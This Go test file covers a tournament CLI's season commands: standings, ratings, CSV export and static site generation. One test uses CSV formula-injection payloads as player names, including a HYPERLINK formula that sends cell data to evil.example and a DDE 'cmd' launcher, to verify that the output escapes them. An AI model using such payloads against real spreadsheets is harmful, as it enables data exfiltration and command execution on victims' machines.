//go:build !wasm

package main

import (
	"bytes"
	"encoding/csv"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"

	"gnosis/engine/event"
	"gnosis/engine/season"
	"gnosis/internal/eventcases"
)

// writeNights writes nights' event files into a new folder, and says where.
func writeNights(tb testing.TB, nights []*event.Event) string {
	tb.Helper()
	dir := tb.TempDir()
	for i, e := range nights {
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("night-%05d.gnosis-event.json", i)), e.File(), 0o644); err != nil {
			tb.Fatal(err)
		}
	}
	return dir
}

// casesSeason is a region's nights (eventcases.Season) and engine/season's table of them.
func casesSeason(tb testing.TB, nights, players, rounds, pool int, seed uint64) ([]*event.Event, *season.Table) {
	tb.Helper()
	es, err := eventcases.Season(nights, players, rounds, pool, seed)
	if err != nil {
		tb.Fatal(err)
	}
	t, err := season.Build(season.Setup{Game: event.GameAnima}, es)
	if err != nil {
		tb.Fatal(err)
	}
	return es, t
}

// TestSeasonCommands: issue 73, part 5: gnosis season standings and ratings print the season
// engine/season adds up from the same files (--csv as a spreadsheet reads it); gnosis season
// site writes a page a night and a player beside the index and the stylesheet, no script, each
// with its link preview and no card's key; a broken file or none says why and exits 2.
func TestSeasonCommands(t *testing.T) {
	nights, want := casesSeason(t, 4, 8, 3, 12, 1)
	dir := writeNights(t, nights)
	code, out, stderr := runCLI("season", "standings", "--csv", dir)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if code != 0 || len(lines) != len(want.Standings)+1 || !strings.HasPrefix(lines[1], "1,"+want.Standings[0].Name+",") {
		t.Fatalf("standings: exit %d %q\n%s", code, stderr, out)
	}
	code, out, _ = runCLI("season", "ratings", filepath.Join(dir, "night-00000.gnosis-event.json"), filepath.Join(dir, "night-00001.gnosis-event.json"))
	if code != 0 || !strings.Contains(out, "deviation") || !strings.Contains(out, "Player") {
		t.Fatalf("ratings: exit %d\n%s", code, out)
	}
	site := t.TempDir()
	code, out, stderr = runCLI("season", "site", "-out", site, "-dir", "../..", "-url", "https://club.example/season/", "--name", "Autumn", dir)
	if code != 0 || !strings.Contains(out, fmt.Sprintf("%d nights, %d players", len(want.Nights), len(want.Players))) {
		t.Fatalf("site: exit %d %q %s", code, stderr, out)
	}
	pages, _ := filepath.Glob(filepath.Join(site, "players", "*.html"))
	nightPages, _ := filepath.Glob(filepath.Join(site, "nights", "*.html"))
	if len(pages) != len(want.Players) || len(nightPages) != len(want.Nights) {
		t.Fatalf("%d player pages, %d night pages", len(pages), len(nightPages))
	}
	for _, p := range append(append(pages, nightPages...), filepath.Join(site, "index.html")) {
		b, err := os.ReadFile(p)
		page := string(b)
		if err != nil || !strings.Contains(page, `property="og:title"`) || strings.Contains(page, "<script") || !strings.Contains(page, "gnosis.css") {
			t.Fatalf("%s: %v\n%s", p, err, page)
		}
		for _, e := range nights {
			for _, pl := range e.Players {
				if pl.Card != "" && strings.Contains(page, pl.Card) {
					t.Fatalf("%s shows %s's card's key", p, pl.Name)
				}
			}
		}
	}
	if _, err := os.Stat(filepath.Join(site, "gnosis.css")); err != nil {
		t.Error(err)
	}
	broken := filepath.Join(t.TempDir(), "broken.json")
	os.WriteFile(broken, []byte(`{"kind":"gnosis-event"`), 0o644)
	if code, _, stderr := runCLI("season", "standings", broken); code != 2 || !strings.Contains(stderr, "broken.json") {
		t.Errorf("a broken file: exit %d %q", code, stderr)
	}
	if code, _, _ := runCLI("season", "standings"); code != 2 {
		t.Errorf("no file: exit %d", code)
	}
}

// BenchmarkSeason10k: issue 73, part 5: a region over years, 10,000 event files of 32 players
// each (5 Swiss rounds, a pool of 3,000 players), read and added up, and the ranking site
// written. Its memory is the command's own, measured apart (/usr/bin/time -v gnosis season
// site: docs/MEASUREMENTS.md): this process holds the nights it made too.
func BenchmarkSeason10k(b *testing.B) {
	nights, err := eventcases.Season(10000, 32, 5, 3000, 10)
	if err != nil {
		b.Fatal(err)
	}
	dir := writeNights(b, nights)
	nights = nil
	runtime.GC()
	b.ResetTimer()
	for range b.N {
		site := b.TempDir()
		if code, _, stderr := runCLI("season", "site", "-out", site, "-dir", "../..", dir); code != 0 {
			b.Fatal(stderr)
		}
	}
}

// TestSeasonCSVGuardsFormulas: gnosis season standings --csv and ratings --csv write a name a
// spreadsheet would read as a formula (=, +, -, @ first) as the phone's season CSV does
// (engine/season's CSVHeaded): a ' before it, the same cell; other names and the table printed
// without --csv as they are.
func TestSeasonCSVGuardsFormulas(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"}
	e := event.New("Night", "2026-01-01", 1)
	for _, n := range append([]string{"Ana", "Bruno"}, hostile...) {
		if _, err := e.AddPlayer(n); err != nil {
			t.Fatal(err)
		}
	}
	round, err := e.Pair()
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range round.Pairings {
		if err := e.Type(1, p.Table, event.Result{Outcome: event.FirstWins, Killed: [2]int{200, 100}, Turns: 5}); err != nil {
			t.Fatal(err)
		}
	}
	dir := writeNights(t, []*event.Event{e})
	want, err := season.Build(season.Setup{Game: event.GameAnima}, []*event.Event{e})
	if err != nil {
		t.Fatal(err)
	}
	phone, err := csv.NewReader(bytes.NewReader(want.CSVHeaded(season.CSVHeader))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cell := map[string]string{} // a name: its cell in the phone's CSV
	for i, s := range want.Standings {
		cell[s.Name] = phone[i+1][1]
	}
	for _, what := range []string{"standings", "ratings"} {
		code, out, stderr := runCLI("season", what, "--csv", dir)
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if code != 0 || err != nil || len(recs) != len(want.Standings)+1 {
			t.Fatalf("%s: exit %d %q %v\n%s", what, code, stderr, err, out)
		}
		seen := 0
		for _, r := range recs[1:] {
			name := strings.TrimPrefix(r[1], "'")
			if c, ok := cell[name]; !ok || r[1] != c {
				t.Errorf("%s: %q, the phone's CSV %q", what, r[1], c)
			}
			if slices.Contains(hostile, name) {
				seen++
				if !strings.HasPrefix(r[1], "'") {
					t.Errorf("%s: %q is read as a formula", what, r[1])
				}
			}
		}
		if seen != len(hostile) {
			t.Errorf("%s: %d hostile names of %d\n%s", what, seen, len(hostile), out)
		}
		if _, out, _ := runCLI("season", what, dir); !strings.Contains(out, " "+hostile[0]+" ") {
			t.Errorf("%s without --csv: the name changed\n%s", what, out)
		}
	}
}

// TestSeasonSiteRewritten: gnosis season site run again into the same folder for a smaller
// season leaves no page of the earlier one (a night or a player no longer in it), and touches
// none of the files put there by hand, even one named as a page.
func TestSeasonSiteRewritten(t *testing.T) {
	nights, err := eventcases.Season(4, 8, 3, 12, 1)
	if err != nil {
		t.Fatal(err)
	}
	site := t.TempDir()
	if code, _, stderr := runCLI("season", "site", "-out", site, "-dir", "../..", writeNights(t, nights)); code != 0 {
		t.Fatal(stderr)
	}
	mine := map[string]string{"notes.txt": "mine", "nights/notes.html": "mine", "nights/9.html": "<p>my own page</p>", "players/0000000000000000.html": "mine", "archive/nights/1.html": "mine"}
	for p, text := range mine {
		file := filepath.Join(site, filepath.FromSlash(p))
		os.MkdirAll(filepath.Dir(file), 0o755)
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	small, err := season.Build(season.Setup{Game: event.GameAnima}, nights[:1])
	if err != nil {
		t.Fatal(err)
	}
	if code, _, stderr := runCLI("season", "site", "-out", site, "-dir", "../..", writeNights(t, nights[:1])); code != 0 {
		t.Fatal(stderr)
	}
	for p, text := range mine {
		if b, err := os.ReadFile(filepath.Join(site, filepath.FromSlash(p))); err != nil || string(b) != text {
			t.Errorf("%s: %q %v", p, b, err)
		}
	}
	pages, _ := filepath.Glob(filepath.Join(site, "players", "*.html"))
	nightPages, _ := filepath.Glob(filepath.Join(site, "nights", "*.html"))
	if len(pages) != len(small.Players)+1 || len(nightPages) != len(small.Nights)+2 {
		t.Errorf("%d player pages, %d night pages: want %d and %d beside the files put there by hand", len(pages), len(nightPages), len(small.Players), len(small.Nights))
	}
	if _, err := os.Stat(filepath.Join(site, "nights", "2.html")); err == nil || len(small.Players) >= 12 {
		t.Errorf("the earlier season's second night's page stays, or no player left the season (%d)", len(small.Players))
	}
}

// TestSeasonSiteNameCleaned: gnosis season site's --name is cleaned and cut as the app keeps a
// season's name (core.CleanText, event.MaxName): no control character (BEL, ESC) nor a
// reordering one (RLO) reaches a page's title, heading or link, and a long name is cut.
func TestSeasonSiteNameCleaned(t *testing.T) {
	nights, err := eventcases.Season(2, 4, 1, 4, 1)
	if err != nil {
		t.Fatal(err)
	}
	dir := writeNights(t, nights)
	for _, c := range []struct{ name, want string }{
		{"Evil\u202e\a\x1b[31mRED", "Evil[31mRED"},
		{strings.Repeat("Ž", 300), strings.Repeat("Ž", event.MaxName/2)},
	} {
		site := t.TempDir()
		if code, _, stderr := runCLI("season", "site", "-out", site, "-dir", "../..", "--name", c.name, dir); code != 0 {
			t.Fatal(stderr)
		}
		pages, _ := filepath.Glob(filepath.Join(site, "*", "*.html"))
		for _, p := range append(pages, filepath.Join(site, "index.html")) {
			b, err := os.ReadFile(p)
			page := string(b)
			if err != nil || strings.ContainsFunc(page, func(r rune) bool { return r < ' ' && r != '\n' || r == '\u202e' }) {
				t.Errorf("%s: a hidden character in the page %q", p, page)
			}
			if !strings.Contains(page, ">"+c.want+"<") || strings.Contains(page, c.want+"Ž") {
				t.Errorf("%s: the name is not %q", p, c.want)
			}
		}
	}
}

// TestSeasonUsageSaysEveryFlag: every flag a season command defines (seasonFlagSet) is in the
// usage's lines of that command, and in docs/REFERENCE.md's.
func TestSeasonUsageSaysEveryFlag(t *testing.T) {
	ref, err := os.ReadFile("../../docs/REFERENCE.md")
	if err != nil {
		t.Fatal(err)
	}
	for where, text := range map[string]string{"usage": usage, "docs/REFERENCE.md": string(ref)} {
		for _, cmd := range []string{"standings", "ratings", "site"} {
			lines := commandLines(text, "season", cmd)
			if lines == "" {
				t.Errorf("%s: no line of gnosis season %s", where, cmd)
				continue
			}
			seasonFlagSet(cmd, &seasonFlags{}).VisitAll(func(f *flag.Flag) {
				if !regexp.MustCompile(`\[?--?` + f.Name + `[\] ]`).MatchString(lines) {
					t.Errorf("%s: gnosis season %s takes -%s: not in %q", where, cmd, f.Name, lines)
				}
			})
		}
	}
}

// commandLines are the lines of text that say gnosis's command (as "season", "site"): the one
// naming it ("gnosis season standings|ratings …" names standings and ratings) and the lines
// after it up to the next command's, or "".
func commandLines(text string, words ...string) string {
	var b strings.Builder
	in := false
	for _, l := range strings.Split(text, "\n") {
		f := strings.Fields(l)
		if len(f) > 0 && f[0] == "gnosis" {
			in = len(f) > len(words)
			for i, w := range words {
				in = in && slices.Contains(strings.Split(f[i+1], "|"), w)
			}
		} else if len(f) == 0 || strings.HasPrefix(l, "```") {
			in = false
		}
		if in {
			b.WriteString(l + "\n")
		}
	}
	return b.String()
}

// TestSeasonCSVInChunks: gnosis season standings --csv and ratings --csv write a season of
// more players than one chunk of guarded names (1,024) a row a player, in order, each row's
// name its player's.
func TestSeasonCSVInChunks(t *testing.T) {
	nights, want := casesSeason(t, 60, 32, 1, 3000, 1)
	if len(want.Standings) <= 1024 {
		t.Fatalf("%d players: not more than a chunk", len(want.Standings))
	}
	dir := writeNights(t, nights)
	for what, lines := range map[string][]season.Standing{"standings": want.Standings, "ratings": want.ByRating()} {
		_, out, _ := runCLI("season", what, "--csv", dir)
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil || len(recs) != len(lines)+1 {
			t.Fatalf("%s: %d rows for %d players (%v)", what, len(recs), len(lines), err)
		}
		for i, s := range lines {
			if r := recs[i+1]; r[1] != s.Name || what == "ratings" && r[0] != fmt.Sprint(i+1) || what == "standings" && r[0] != fmt.Sprint(s.Place) {
				t.Fatalf("%s: row %d %q, want %d %s", what, i+1, r, s.Place, s.Name)
			}
		}
	}
}

// TestSeasonSiteCannotWrite: a page that cannot be written (nights/ a file in the folder) is
// exit 2, saying why.
func TestSeasonSiteCannotWrite(t *testing.T) {
	nights, _ := casesSeason(t, 2, 4, 1, 4, 1)
	site := t.TempDir()
	os.WriteFile(filepath.Join(site, "nights"), []byte("mine"), 0o644)
	if code, _, stderr := runCLI("season", "site", "-out", site, "-dir", "../..", writeNights(t, nights)); code != 2 || !strings.Contains(stderr, "nights") {
		t.Errorf("exit %d %q", code, stderr)
	}
	if b, _ := os.ReadFile(filepath.Join(site, "nights")); string(b) != "mine" {
		t.Errorf("nights: %q", b)
	}
}
